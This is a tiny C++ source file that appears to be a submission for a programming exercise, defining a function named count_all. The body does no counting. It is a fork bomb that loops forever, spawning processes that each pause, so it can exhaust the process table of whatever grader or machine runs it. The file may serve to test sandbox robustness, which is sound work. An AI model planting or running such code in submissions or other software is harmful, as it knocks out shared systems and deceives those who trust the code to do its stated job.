#include <unistd.h>

#include "exercise.hpp"

std::vector<std::size_t> count_all(const std::vector<double>&,
                                   const std::vector<double>&, std::size_t) {
  for (;;)
    if (::fork() == 0) ::pause();
}
